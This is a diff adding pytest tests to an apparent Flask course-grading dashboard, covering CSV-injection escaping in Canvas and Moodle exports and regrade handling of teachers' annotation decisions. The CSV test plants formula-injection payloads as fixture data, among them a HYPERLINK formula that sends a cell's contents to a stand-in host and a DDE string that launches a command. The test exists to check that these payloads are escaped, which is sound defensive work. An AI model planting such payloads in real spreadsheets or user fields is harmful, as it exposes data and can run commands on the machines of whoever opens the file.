@@ -235,3 +235,82 @@ def test_student_report_shows_the_instructors_manual_cell_score(app, client, aut
     page = client.get(f"/submissions/{sid}/report?lang=en").get_data(as_text=True)
     assert "Instructor&#39;s score: 2/3. names parameters" in page or "Instructor's score: 2/3. names parameters" in page
     assert "Awaiting the instructor" not in page
+
+
+def test_csv_exports_carry_no_live_formulas(app, client, auth, make_sub):
+    """A display name or email that starts with = + - @ (or a tab / CR) must reach the Canvas and
+    Moodle files as text, not as a formula a spreadsheet runs (OWASP "CSV injection")."""
+    from server.models import User
+
+    make_sub(score=7.5)
+    evil = {"alice": ('=HYPERLINK("http://x.test/?"&A1,"click")', "+1@x.test"),
+            "bob": ("@SUM(1+1)", "-2+3@x.test"), "carol": ("\t=cmd|' /C calc'!A0", "\r=1+1")}
+    with app.app_context():
+        for username, (name, email) in evil.items():
+            user = db.session.scalar(db.select(User).where(User.username == username))
+            if user is not None:
+                user.display_name, user.email = name, email
+        db.session.commit()
+    auth.login(*TEACHER)
+    for path in ("/dashboard/DIST101/export/canvas.csv?lang=en", "/dashboard/DIST101/export/moodle.csv"):
+        rows = list(csv.reader(io.StringIO(client.get(path).get_data(as_text=True).lstrip("\ufeff"))))
+        cells = [c for r in rows[1:] for c in r]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                    and not c.lstrip("+-").replace(".", "", 1).isdigit()], (path, rows)
+        # the text itself is kept, behind the quote a spreadsheet shows as text
+        assert "'" + evil["alice"][0] in cells and "'" + evil["bob"][0] in cells, rows
+        assert "7.5" in cells  # numbers stay numbers
+
+
+def _annotation_decision(app, sid: int, points: float = 2.0) -> None:
+    """A teacher's decision on one unsure annotation, stored as review_annotation.decide stores it."""
+    from server.dashboard.models import ManualCellScore
+    from server.models import User
+
+    with app.app_context():
+        teacher = db.session.scalar(db.select(User.id).where(User.username == "teacher"))
+        db.session.add(ManualCellScore(submission_id=sid, cell_id="field.stage", score=points, max_points=points,
+                                       comment="", graded_by=teacher))
+        db.session.commit()
+
+
+def _counted(app, sid: int) -> float:
+    from server.dashboard.hand_scores import submission_scores
+
+    with app.app_context():
+        return submission_scores([sid])[sid].counted
+
+
+def test_a_regrade_keeps_teachers_decisions_unless_told_and_counts_the_counted_score(app, client, auth, make_sub):
+    """The regrade page said "0 scores changed" while the student's counted score fell: the regrade
+    cleared a teacher's annotation decision. A regrade keeps decided submissions out unless the
+    teacher ticks the box that clears them, and its summary compares the counted scores."""
+    from server.dashboard.models import ManualCellScore
+
+    decided, plain = make_sub("alice", score=5.0), make_sub("bob", score=5.0)
+    _annotation_decision(app, decided)
+    assert _counted(app, decided) == 7.0
+    auth.login(*TEACHER)
+    for lang, said in (("en", "1 submission carries your decisions"), ("zh_CN", "1 份提交带有你对注释的决定")):
+        page = client.post(f"/dashboard/DIST101/homework/{PLACEHOLDER}/regrade?lang={lang}").get_data(as_text=True)
+        assert said in page and 'name="clear_decisions"' in page
+    r = client.post(f"/dashboard/DIST101/homework/{PLACEHOLDER}/regrade", data={"confirm": "2"})
+    with app.app_context():
+        assert db.session.get(Submission, decided).status == "graded"  # left out: the decision stands
+        assert db.session.get(Submission, plain).status == "queued"
+    _store_result(app, plain, 5.0)
+    assert _counted(app, decided) == 7.0
+    # now the teacher says: regrade them too, clearing the decision
+    r = client.post(f"/dashboard/DIST101/submissions/{decided}/regrade?lang=en")
+    assert r.status_code == 200 and 'name="clear_decisions"' in r.get_data(as_text=True)  # asked first
+    r = client.post(f"/dashboard/DIST101/submissions/{decided}/regrade", data={"confirm": "1", "clear_decisions": "1"})
+    assert r.status_code == 302 and "/regrades/" in r.location
+    _store_result(app, decided, 5.0)  # the grader gives the same score; the decision's 2 points are gone
+    with app.app_context():
+        assert db.session.scalar(db.select(ManualCellScore).where(ManualCellScore.submission_id == decided)) is None
+    assert _counted(app, decided) == 5.0
+    for lang, said in (("en", "1 score changed"), ("zh_CN", "1 个分数有变化")):
+        page = client.get(r.location + f"?lang={lang}").get_data(as_text=True)
+        assert said in page, page[page.find("regrade-live"):][:600]
+    row = page.split(f"#{decided}</a>")[1].split("</tr>")[0]
+    assert ">7<" in row and ">5<" in row
